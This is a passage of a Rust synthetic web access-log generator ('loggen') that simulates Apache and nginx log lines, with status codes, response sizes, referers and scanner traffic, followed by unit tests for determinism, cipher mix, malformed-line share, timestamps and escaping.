                    _ => 500,
                },
                Target::Asset(_) => match r {
                    0..=719 => 200,
                    720..=979 => 304,
                    980..=994 => 404,
                    _ => 206,
                },
                Target::ApiGet => match r {
                    0..=899 => 200,
                    900..=919 => 304,
                    920..=959 => 404,
                    960..=979 => 401,
                    _ => 500,
                },
                Target::Query => match r {
                    0..=959 => 200,
                    960..=989 => 404,
                    _ => 500,
                },
                Target::Post => match r {
                    0..=849 => 200,
                    850..=899 => 201,
                    900..=939 => 400,
                    940..=969 => 403,
                    _ => 500,
                },
                Target::Health => 200,
                Target::Scan(_) => match r {
                    0..=819 => 404,
                    820..=899 => 403,
                    900..=929 => 301,
                    930..=949 => 400,
                    _ => 200,
                },
            }
        };
    push_u64(buf, status);
    buf.push(b' ');

    // %b: Apache writes `-` for an empty body, nginx `0`.
    let body: u64 = if method == "HEAD" {
        0
    } else {
        match (status, fmt) {
            (200, _) => size.max(if matches!(target, Target::Scan(_)) {
                rng.range(400, 9_000)
            } else {
                1
            }),
            (201, _) => rng.range(20, 300),
            (206, _) => rng.range(1, size.max(2)),
            (304, _) => 0,
            (301 | 302, Format::Apache) => 231 + path_len + SITE.len() as u64,
            (301, Format::Nginx) => 169,
            (302, Format::Nginx) => 145,
            (400, Format::Apache) => 226,
            (401, Format::Apache) => 381,
            (403, Format::Apache) => 199,
            (404, Format::Apache) => 196,
            (500, Format::Apache) => 531,
            (400 | 403 | 404, Format::Nginx) => 153,
            (401, Format::Nginx) => 179,
            (_, Format::Nginx) => 177,
            _ => 0,
        }
    };
    if body == 0 && fmt == Format::Apache {
        buf.push(b'-');
    } else {
        push_u64(buf, body);
    }

    // "%{Referer}i"
    buf.extend_from_slice(b" \"");
    let r = rng.below(100);
    let internal = |buf: &mut Vec<u8>, rng: &mut Rng| {
        buf.extend_from_slice(SITE.as_bytes());
        buf.extend_from_slice(site.pages[site.page_pop.pick(rng)].path.as_bytes());
    };
    match (client.kind, target) {
        (Kind::Browser | Kind::Old, Target::Asset(_) | Target::Post | Target::ApiGet) if r < 85 => {
            internal(buf, rng)
        }
        (Kind::Browser | Kind::Old, Target::Page(_) | Target::Query) => match r {
            0..=39 => buf.push(b'-'),
            40..=74 => internal(buf, rng),
            75..=86 => buf.extend_from_slice(
                rng.pick(&[
                    "https://www.google.com/",
                    "https://www.google.de/",
                    "https://www.google.co.uk/",
                ])
                .as_bytes(),
            ),
            87..=89 => buf.extend_from_slice(b"https://www.bing.com/"),
            90..=91 => buf.extend_from_slice(b"https://duckduckgo.com/"),
            92..=95 => {
                buf.extend_from_slice(b"https://t.co/");
                for _ in 0..10 {
                    buf.push(
                        b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
                            [rng.below(62) as usize],
                    );
                }
            }
            96..=97 => buf.extend_from_slice(b"https://l.facebook.com/"),
            _ => buf.extend_from_slice(b"android-app://com.google.android.gm/"),
        },
        (Kind::Scanner | Kind::Odd, _) if r < 15 => {
            buf.extend_from_slice(b"http://");
            buf.extend_from_slice(
                &client.prefix[..client.prefix.iter().position(|&b| b == b' ').unwrap_or(0)],
            );
            buf.push(b'/');
        }
        (Kind::Bot, _) if r < 3 => internal(buf, rng),
        _ => buf.push(b'-'),
    }
    buf.extend_from_slice(b"\" \"");
    buf.extend_from_slice(&client.ua);
    let ua_close = buf.len();
    buf.extend_from_slice(b"\" ");
    (request_close, ua_close)
}

// ---------------------------------------------------------------------------
// main
// ---------------------------------------------------------------------------

fn run(cfg: &Config) -> io::Result<()> {
    let mut gen = Gen::new(cfg);
    let stdout = io::stdout();
    let mut out = stdout.lock();
    const CHUNK: usize = 1 << 20;
    let mut buf = Vec::with_capacity(CHUNK + 16 * 1024);
    for _ in 0..cfg.lines {
        gen.line(&mut buf);
        if buf.len() >= CHUNK {
            out.write_all(&buf)?;
            buf.clear();
        }
    }
    out.write_all(&buf)?;
    out.flush()
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let cfg = match parse_args(&args) {
        Ok(Some(cfg)) => cfg,
        Ok(None) => {
            print!("{USAGE}");
            return ExitCode::SUCCESS;
        }
        Err(e) => {
            eprintln!("loggen: {e}\n\n{USAGE}");
            return ExitCode::from(2);
        }
    };
    match run(&cfg) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) if e.kind() == io::ErrorKind::BrokenPipe => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("loggen: write error: {e}");
            ExitCode::FAILURE
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config(lines: u64, seed: u64, malformed: u32, format: Format) -> Config {
        Config {
            lines,
            seed,
            malformed_per_mille: malformed,
            format,
            ..Config::default()
        }
    }

    /// Runs the generator like `main` does, returning every line with its kind.
    fn generate(cfg: &Config) -> Vec<(Vec<u8>, LineKind)> {
        let mut gen = Gen::new(cfg);
        let mut out = Vec::new();
        let mut buf = Vec::new();
        for _ in 0..cfg.lines {
            buf.clear();
            let kind = gen.line(&mut buf);
            out.push((buf.clone(), kind));
        }
        out
    }

    fn fields(line: &[u8]) -> Vec<&[u8]> {
        line.split(|b| b.is_ascii_whitespace())
            .filter(|f| !f.is_empty())
            .collect()
    }

    #[test]
    fn same_seed_same_bytes_other_seed_other_bytes() {
        for format in [Format::Apache, Format::Nginx] {
            let a = generate(&config(20_000, 5, 5, format));
            let b = generate(&config(20_000, 5, 5, format));
            let c = generate(&config(20_000, 6, 5, format));
            assert!(a == b, "same seed must give identical output");
            assert!(a != c, "another seed must give other output");
        }
    }

    #[test]
    fn every_line_is_one_line_without_cr() {
        for (line, _) in generate(&config(50_000, 11, 50, Format::Apache)) {
            assert_eq!(line.last(), Some(&b'\n'));
            assert_eq!(line.iter().filter(|&&b| b == b'\n').count(), 1, "{line:?}");
            assert!(!line.contains(&b'\r'), "{line:?}");
        }
    }

    #[test]
    fn well_formed_lines_have_at_least_11_fields() {
        for format in [Format::Apache, Format::Nginx] {
            let mut valid = 0;
            for (line, kind) in generate(&config(60_000, 3, 10, format)) {
                if kind == LineKind::Valid {
                    valid += 1;
                    let n = fields(&line).len();
                    assert!(n >= 11, "{n} fields: {}", String::from_utf8_lossy(&line));
                    assert!(line.is_ascii(), "escaped lines are ASCII: {line:?}");
                }
            }
            assert!(valid > 59_000);
        }
    }

    #[test]
    fn protocol_shares_follow_the_mix_and_ciphers_fit_the_protocol() {
        let lines = generate(&config(200_000, 42, 0, Format::Apache));
        let mut counts = [0u64; PROTO_MIX.len()];
        for (line, _) in &lines {
            let f = fields(line);
            let (proto, cipher) = (f[f.len() - 2], f[f.len() - 1]);
            let i = PROTO_MIX
                .iter()
                .position(|&(p, _)| p.name().as_bytes() == proto)
                .unwrap_or_else(|| panic!("unknown protocol in {}", String::from_utf8_lossy(line)));
            counts[i] += 1;
            let known = PROTO_MIX[i]
                .0
                .ciphers()
                .iter()
                .any(|&(c, _)| c.as_bytes() == cipher);
            assert!(
                known,
                "cipher does not fit the protocol: {}",
                String::from_utf8_lossy(line)
            );
            assert_eq!(proto == b"TLSv1.3", cipher.starts_with(b"TLS_"));
        }
        for (i, &(proto, share)) in PROTO_MIX.iter().enumerate() {
            let expected = f64::from(share) / 10_000.0;
            let observed = counts[i] as f64 / lines.len() as f64;
            assert!(
                (observed - expected).abs() <= 0.003 + 0.1 * expected,
                "{proto:?}: observed {observed:.4}, configured {expected:.4}"
            );
        }
    }

    #[test]
    fn malformed_share_follows_the_option() {
        let lines = generate(&config(100_000, 9, 10, Format::Apache));
        let bad = lines
            .iter()
            .filter(|(_, k)| *k == LineKind::Malformed)
            .count();
        assert!(
            (700..=1300).contains(&bad),
            "{bad} malformed lines of 100000 at 10 per mille"
        );
        let none = generate(&config(20_000, 9, 0, Format::Apache));
        assert!(none.iter().all(|(_, k)| *k == LineKind::Valid));
    }

    #[test]
    fn timestamps_start_at_start_and_never_go_back() {
        let lines = generate(&config(30_000, 1, 0, Format::Apache));
        let first = &lines[0].0;
        let at = first.iter().position(|&b| b == b'[').unwrap();
        assert_eq!(&first[at..at + 28], b"[21/Nov/2026:00:00:00 +0200]");
        let key = |line: &[u8]| {
            let at = line.iter().position(|&b| b == b'[').unwrap();
            let t = std::str::from_utf8(&line[at + 1..at + 21])
                .unwrap()
                .to_string();
            let month = MONTHS
                .iter()
                .position(|m| m[..] == t.as_bytes()[3..6])
                .unwrap();
            (
                t[7..11].to_string(),
                month,
                t[0..2].to_string(),
                t[12..20].to_string(),
            )
        };
        let mut prev = key(first);
        let mut distinct_seconds = 1;
        for (line, _) in &lines[1..] {
            let k = key(line);
            assert!(
                k >= prev,
                "time went back: {}",
                String::from_utf8_lossy(line)
            );
            if k != prev {
                distinct_seconds += 1;
            }
            prev = k;
        }
        // Many lines per second, and time does advance.
        assert!(
            distinct_seconds > 100 && distinct_seconds < 30_000 / 5,
            "{distinct_seconds}"
        );
    }

    #[test]
    fn calendar_and_time_zone() {
        assert_eq!(civil_from_days(0), (1970, 1, 1));
        assert_eq!(civil_from_days(11_016), (2000, 2, 29));
        assert_eq!(civil_from_days(1_795_212_000 / 86_400), (2026, 11, 20));
        assert_eq!(civil_from_days(-1), (1969, 12, 31));
        let mut cfg = Config::default();
        (cfg.tz_secs, cfg.tz_text) = parse_tz("-0330").unwrap();
        cfg.start = 1_795_212_000;
        let mut clock = Clock::new(&cfg);
        clock.tick(&mut Rng::new(1));
        assert_eq!(clock.text, b"[20/Nov/2026:18:30:00 -0330]");
        assert!(parse_tz("0200").is_err() && parse_tz("+2500").is_err());
    }

    #[test]
    fn escaping_matches_apache_and_nginx() {
        let raw = b"a \"b\" c\\d\te\xc3\xa9\x7f";
        assert_eq!(
            escaped(raw, Format::Apache),
            b"a \\\"b\\\" c\\\\d\\te\\xc3\\xa9\\x7f"
        );
        assert_eq!(
            escaped(raw, Format::Nginx),
            b"a \\x22b\\x22 c\\x5Cd\\x09e\\xC3\\xA9\\x7F"
        );
    }

    #[test]
    fn nginx_lines_use_zero_bytes_and_hex_escapes() {
        let lines = generate(&config(100_000, 4, 0, Format::Nginx));
        let text: Vec<u8> = lines.into_iter().flat_map(|(l, _)| l).collect();
        let has = |needle: &[u8]| text.windows(needle.len()).any(|w| w == needle);
        assert!(has(b"\" 304 0 \""));
        assert!(!has(b"\" 304 - \""));
        assert!(has(b"\\x22"));
        assert!(!has(b"\\\""));
    }

    #[test]
    fn arguments() {
        let args = |s: &str| s.split_whitespace().map(String::from).collect::<Vec<_>>();
        let cfg = parse_args(&args(
            "--lines 10M --seed=7 --format nginx-ssl --malformed 0 --tz -0500",
        ))
        .unwrap()
        .unwrap();
        assert_eq!(
            (cfg.lines, cfg.seed, cfg.malformed_per_mille, cfg.format),
            (10_000_000, 7, 0, Format::Nginx)
        );
        assert_eq!(cfg.tz_secs, -5 * 3600);
        assert!(parse_args(&args("--help")).unwrap().is_none());
        assert!(parse_args(&args("--format json")).is_err());
        assert!(parse_args(&args("--lines")).is_err());
        assert!(parse_args(&args("--malformed 1001")).is_err());
    }
}
